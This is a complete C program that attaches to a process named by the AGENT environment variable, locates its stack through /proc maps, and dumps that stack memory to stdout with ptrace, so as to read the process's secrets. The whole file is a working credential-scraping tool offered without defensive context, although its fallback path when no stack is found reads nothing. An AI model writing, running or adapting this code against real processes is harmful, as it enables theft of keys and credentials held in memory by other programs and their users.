// Stops the agent as a debugger does and reads its secrets off its stack.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <errno.h>

int main(void) {
    int agent = atoi(getenv("AGENT"));
    char name[64], line[512];
    unsigned long from = 0, to = 0;
    if (ptrace(PTRACE_ATTACH, agent, 0, 0) != 0) return 1;
    waitpid(agent, 0, 0);
    snprintf(name, sizeof name, "/proc/%d/maps", agent);
    FILE *maps = fopen(name, "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "[stack]")) sscanf(line, "%lx-%lx", &from, &to);
    if (!from) from = 0x7ffc00000000UL, to = from;
    for (; from < to; from += sizeof(long)) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, agent, from, 0);
        if (errno == 0) fwrite(&word, sizeof word, 1, stdout);
    }
    ptrace(PTRACE_DETACH, agent, 0, 0);
    return 0;
}
